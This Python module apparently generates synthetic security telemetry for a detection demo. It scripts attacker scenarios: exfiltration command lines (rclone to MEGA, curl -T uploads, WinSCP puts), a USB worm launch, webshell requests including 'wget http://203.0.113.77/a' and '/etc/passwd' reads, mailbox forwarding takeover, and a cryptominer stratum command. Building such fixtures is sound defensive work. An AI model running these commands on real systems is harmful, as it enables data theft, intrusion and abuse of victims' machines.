"""What goes out, and what comes in by other doors: data taken, tunnels, sticks, web servers, accounts, the gateway."""

from hinomi.demo.hosts import Host
from hinomi.demo.planted.happening import (
    Antivirus,
    Asked,
    Cloud,
    Connected,
    Gate,
    Gateway,
    Request,
    Started,
    Verdict,
    Wrote,
)
from hinomi.demo.planted.plots.infections import RUNS, looks_around
from hinomi.demo.planted.plots.plot import Plot
from hinomi.demo.planted.scene import Expected, Scene, expect
from hinomi.demo.programs import DEFENDER, EXPLORER, SYSTEM

CMD = f"{SYSTEM}cmd.exe"


def uploads(scene: Scene) -> Expected:
    """Much goes out to a place that nobody knows."""
    host, random = scene.host, scene.random
    program = f"C:\\Users\\{host.user}\\AppData\\Local\\Temp\\{scene.attacker.tool}"
    for _ in range(random.randint(4, 9)):
        scene.then(
            Connected(
                host, program, scene.attacker.store, sent=random.randint(500, 2_000) << 20, received=90_000, seconds=900
            ),
            (600, 1200),
        )
    return expect([host], ("data_upload", "data_taken_out"))


def copies_to_cloud(scene: Scene) -> Expected:
    """Files packed with a password, and carried off by a tool made for it."""
    who, host, random = scene.attacker, scene.host, scene.random
    folder = who.folder(host.user)
    packed = f"{folder}{who.word()}.{random.choice(('7z', 'rar', 'zip'))}"
    packer, command = random.choice(
        (
            (f"{folder}7z.exe", f'{folder}7z.exe a -p{who.word()} -mhe=on {packed} "\\\\SV-01\\drawing\\*"'),
            (f"{folder}rar.exe", f"{folder}rar.exe a -hp{who.word()} -r {packed} D:\\設計"),
            (
                "C:\\Program Files\\7-Zip\\7z.exe",
                f'"C:\\Program Files\\7-Zip\\7z.exe" a -tzip -p{who.word()} {packed} C:\\Users\\{host.user}\\Documents',
            ),
        )
    )
    scene.then(Started(host, packer, command, CMD))
    sender, command = random.choice(
        (
            (f"{folder}rclone.exe", f"rclone.exe copy {packed} remote:{who.word()} --transfers 10 -q"),
            (
                f"{folder}{who.tool}",
                f"{folder}{who.tool} copy --max-age 2y \\\\SV-01\\share mega:{who.word()} "
                f"--config {folder}c.conf --no-check-certificate",
            ),
            (f"{SYSTEM}curl.exe", f"curl -T {packed} https://transfer.{who.domain()}/{who.word()}"),
            (
                f"{folder}winscp.com",
                f'winscp.com /command "open sftp://{who.word()}:{who.word()}@{who.home.ip}" "put {packed}" exit',
            ),
            (f"{folder}megacmd.exe", f"megacmd.exe put {packed}"),
        )
    )
    scene.then(Started(host, sender, command, CMD), (60, 900))
    scene.then(Connected(host, sender, who.store, sent=900 << 20, received=30_000, seconds=700))
    return expect([host], ("data_taken_out", "data_upload", *RUNS))


def tunnels(scene: Scene) -> Expected:
    """Hundreds of long names below one domain, each another."""
    host, random = scene.host, scene.random
    domain = scene.attacker.domain()
    for _ in range(random.randint(180, 320)):
        label = "".join(random.choices("abcdefghijklmnopqrstuvwxyz234567", k=random.randint(42, 60)))
        scene.then(Asked(host, f"{label}.{domain}", random.choice(("A", "TXT", "A"))), (1, 25))
    return expect([host], ("dns_tunnel",))


def from_stick(scene: Scene) -> Expected:
    """A stick from the factory: what lies on it starts, and copies itself on."""
    who, host, random = scene.attacker, scene.host, scene.random
    drive = random.choice("DEFG")
    hidden = random.choice(
        (f"{drive}:\\{who.word()}.{random.choice(('dat', 'tmp', 'db', 'dll'))}", f"{drive}:\\_\\{who.word()}.dll")
    )
    path, command = random.choice(
        (
            (f"{SYSTEM}rundll32.exe", f"rundll32.exe {hidden},Start"),
            (CMD, f'"{CMD}" /c start explorer {drive}:\\ & {hidden}'),
            (f"{drive}:\\{who.tool}", f"{drive}:\\{who.tool}"),
            (f"{SYSTEM}wscript.exe", f"wscript.exe //e:vbscript {hidden}"),
            (CMD, f"cmd /R <{drive}:\\{who.word()}.{random.choice(('cfg', 'ico'))}"),
        )
    )
    said = (
        Verdict(DEFENDER, "高", f"Microsoft Defender: Worm:Win32/{who.word().title()}") if scene.chance(0.5) else None
    )
    scene.then(Started(host, path, command, EXPLORER, verdict=said))
    scene.then(Antivirus(host, 1116, f"Worm:Win32/{who.word().title()}", hidden))
    dropped = f"{who.folder(host.user)}{who.tool}"
    scene.then(Wrote(host, path, dropped))
    scene.then(Started(host, dropped, dropped, path))
    path, command = who.stager(host.user)
    scene.then(Started(host, path, command, dropped))
    return expect([host], ("usb_device", "defender_detection", "unregistered_application", *RUNS))


def web_server(scene: Scene) -> Expected:
    """The web site is attacked until something answers; then the attacker asks it for commands."""
    random, stranger = scene.random, scene.attacker.address()
    for purpose in random.choices(
        ("Webサイトの変造/偽造", "新たな脆弱性", "個人情報の漏えい"), k=random.randint(20, 60)
    ):
        scene.then(
            Request(stranger, "GET", f"/{scene.attacker.word()}?{scene.attacker.word()}=1", 403, purpose), (1, 30)
        )
    shell = random.choice(
        (
            f"/wp-content/uploads/2022/{scene.attacker.word()}.php",
            f"/images/{scene.attacker.word()}.php",
            f"/upload/files/{scene.attacker.word()}.aspx",
            f"/{scene.attacker.word()}.jsp",
        )
    )
    scene.then(Request(stranger, "POST", "/wp-admin/admin-ajax.php?action=upload", 200, "Webサイトの変造/偽造"))
    key = random.choice(("cmd", "c", "exec", "pass", "x"))
    for command in random.sample(
        ("whoami", "id", "cat%20/etc/passwd", "uname%20-a", "wget%20http://203.0.113.77/a", "ls%20-la"), 4
    ):
        scene.then(Request(stranger, "GET", f"{shell}?{key}={command}", 200), (3, 60))
    return expect(
        [f"192.0.2.{int(scene.tenant) % 200}", stranger, f"{scene.tenant}-waf"],
        ("web_attack", "website_taken_over"),
    )


def account_taken(scene: Scene) -> Expected:
    """Passwords tried on everybody; one fits, and the account is made the attacker's own."""
    who, random = scene.attacker, scene.random
    stranger = who.address()
    for host in scene.hosts[:12] * 2:
        scene.then(Cloud(host.mail, "UserLoginFailed", stranger, failed=True), (1, 15))
    victim = scene.host
    scene.then(Cloud(victim.mail, "UserLoggedIn", stranger))
    outside = f"{who.word()}@{who.domain()}"
    for operation, details in random.sample(
        (
            (
                "Set-Mailbox",
                (
                    ("Identity", victim.mail),
                    ("ForwardingSmtpAddress", f"smtp:{outside}"),
                    ("DeliverToMailboxAndForward", "True"),
                ),
            ),
            ("New-InboxRule", (("Name", "."), ("ForwardTo", outside))),
            ("Add member to role.", (("ObjectId", victim.mail), ("Role.DisplayName", "Global Administrator"))),
            (
                "Consent to application.",
                (
                    ("ObjectId", who.word()),
                    ("ConsentContext.IsAdminConsent", "False"),
                    ("ConsentAction.Permissions", "Mail.Read Mail.Send offline_access"),
                ),
            ),
            ("Disable Strong Authentication.", (("ObjectId", victim.mail),)),
        ),
        2,
    ):
        scene.then(Cloud(victim.mail, operation, stranger, details), (60, 900))
    return expect([victim, stranger], ("account_takeover", "unusual_sign_in"))


def gateway_taken(scene: Scene) -> Expected:
    """Somebody guesses the gateway's password over the Internet, and leaves an account behind."""
    who, random = scene.attacker, scene.random
    stranger = who.address()
    for _ in range(random.randint(15, 50)):
        scene.then(Gateway("login failed", random.choice(("admin", "root", "fortinet", "test")), stranger), (1, 8))
    scene.then(Gateway("login", "admin", stranger))
    for kind in random.sample(("admin added", "settings taken"), random.randint(1, 2)):
        scene.then(Gateway(kind, "admin", stranger, who.word(2)), (20, 300))
    return expect(
        [stranger, f"FG-{scene.tenant}", f"{scene.tenant}-utm", "admin"],
        ("gateway_takeover", "intrusion", "account_takeover"),
    )


def remote_access_guessed(scene: Scene) -> Expected:
    """Passwords are guessed at the way in for people at home, until one fits; then the inside is looked at."""
    random, stranger, victim = scene.random, scene.attacker.address(), scene.host
    for _ in range(random.randint(80, 200)):
        name = random.choice(("test", "admin", *[victim.user] * 4))
        scene.then(Gateway("vpn failed", name, stranger), (1, 12))
    scene.then(Gateway("vpn failed", victim.user, stranger))
    scene.then(Gateway("vpn", victim.user, stranger))
    return expect([stranger, victim], ("account_takeover", "password_guessing", "intrusion"))


def callback_of_other(scene: Scene) -> Expected:
    """A machine that nobody thought of, with nothing but the gateway to see it, calls out after months."""
    host = Host("NC-LATHE-02", f"{scene.host.ip.rpartition('.')[0]}.201", "00:00:5E:00:53:F7", "", "")
    for _ in range(scene.random.randint(4, 9)):
        scene.then(
            Connected(
                host,
                "",
                scene.attacker.home,
                secure=False,
                gate=Gate.CALLBACK,
                threat=f"{scene.attacker.family}.Botnet",
            ),
            (600, 4000),
        )
    return expect([host], ("cnc_callback", "malware_chain", "factory_network"))


def mines(scene: Scene) -> Expected:
    """Somebody else's coins are made on the company's machine."""
    who, host, random = scene.attacker, scene.host, scene.random
    miner = f"{who.folder(host.user)}{random.choice(('xmrig.exe', who.tool))}"
    pool = f"pool.{who.domain()}:{random.choice((3333, 4444, 14444))}"
    path, command = who.stager(host.user)
    scene.then(Started(host, path, command, random.choice((f"{SYSTEM}svchost.exe", CMD))))
    scene.then(Started(host, miner, f"{miner} -o stratum+tcp://{pool} -u {who.word(8)} -p x --donate-level=1 -k", path))
    looks_around(scene, host, miner)
    return expect([host], ("unwanted_software", "forbidden_application", "adware", *RUNS))


PLOTS = (
    Plot("data sent away, gateway alone", uploads, ("fortinet_fortigate",), learned=True),
    Plot("files packed and carried off", copies_to_cloud, ("edr",)),
    Plot("tunnel through names", tunnels, ("fortinet_fortigate",), learned=True),
    Plot("malware on a stick", from_stick, ("edr",)),
    Plot("malware on a stick, Windows logs", from_stick, ("windows_forwarded",), without=("edr",)),
    Plot("web server taken", web_server, ("waf",)),
    Plot("account taken", account_taken, ("cloud",)),
    Plot("gateway's console guessed", gateway_taken, ("fortinet_fortigate",)),
    Plot("remote access guessed", remote_access_guessed, ("fortinet_fortigate",)),
    Plot("machine tool calls out", callback_of_other, ("utm",)),
    Plot("coins mined", mines, ("edr",)),
)
